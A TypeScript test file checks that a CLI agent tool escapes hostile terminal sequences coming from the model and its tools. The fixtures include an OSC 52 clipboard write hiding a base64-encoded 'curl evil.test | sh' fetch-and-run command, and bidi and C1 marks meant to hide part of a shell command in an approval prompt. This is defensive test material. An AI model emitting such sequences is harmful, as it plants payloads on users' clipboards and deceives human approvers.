// Escape sequences from the model and from tools reach the real CLI's stdout and stderr escaped, never as
// live controls: OSC 52 clipboard writes, title changes, clear screen, cursor moves, bidi overrides, C1.
import { describe, expect, it } from 'vitest';
import { useCliHarness } from '../host/cli/cli-harness';

/** Every sequence an attacker would send a terminal, one after the other. */
const HOSTILE = [
  '\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07', // OSC 52: put a command on the clipboard
  '\x1b]0;innocent title\x07', // window title
  '\x1b[2J\x1b[H', // clear screen, cursor home
  '\x1b[1A\x1b[2K', // cursor up, erase the line
  '\u202eevil\u202c', // right-to-left override
  '\u009b31m', // C1 CSI
  'back\bspace and a lone\rreturn',
].join(' ');

/** Anything a terminal would act on; CR is allowed only right before LF. */
const LIVE_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

const t = useCliHarness({ approvalMode: 'auto' });

describe('the CLI shows hostile text escaped', () => {
  it("the model's streamed answer and a tool's error, in a real `nanotray agent -m`", async () => {
    t.open();
    t.llm.enqueue(
      { toolCalls: [{ name: 'read_file', arguments: { path: `missing ${HOSTILE}.txt` } }] },
      { text: ['Here:\n\tindented ', HOSTILE.slice(0, 3), HOSTILE.slice(3), '\r\nend'] },
    );
    const { code, out: stdout, err: stderr } = await t.spawn(['agent', '-m', 'hi']);
    expect(code).toBe(0);
    for (const [name, out] of [['stdout', stdout], ['stderr', stderr]] as const) expect([name, LIVE_CONTROL.exec(out)?.[0]]).toEqual([name, undefined]);
    expect(stdout).toContain('Here:\n\tindented \\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07');
    expect(stdout).toContain('\\u{202e}evil\\u{202c} \\x9b31m back\\x08space and a lone\\x0dreturn\r\nend');
    expect(stderr).toContain('\\x1b]0;innocent title\\x07');
  });

  it('the approval prompt on a terminal shows the escaped command, so nothing can hide part of it', async () => {
    t.open({ tools: { approval: { mode: 'ask' } } });
    t.llm.enqueue({ toolCalls: [{ name: 'exec', arguments: { command: `echo hi \u202e; echo pwned \u009b1A # ${HOSTILE}` } }] }, { text: 'ok' });
    const { code, out, err } = await t.runOnTty(['agent', '-m', 'go'], ['n']);
    expect(code).toBe(0);
    expect(err).toContain('Approval needed: exec');
    // The arguments are shown decoded, every control and bidi mark as a marker (the CLI prints no live one).
    expect(err).toContain('echo hi ⟨U+202E⟩; echo pwned ⟨U+009B⟩1A # ⟨ESC⟩]52;c;');
    expect(LIVE_CONTROL.exec(err)).toBeNull();
    expect(LIVE_CONTROL.exec(out)).toBeNull();
  });
});
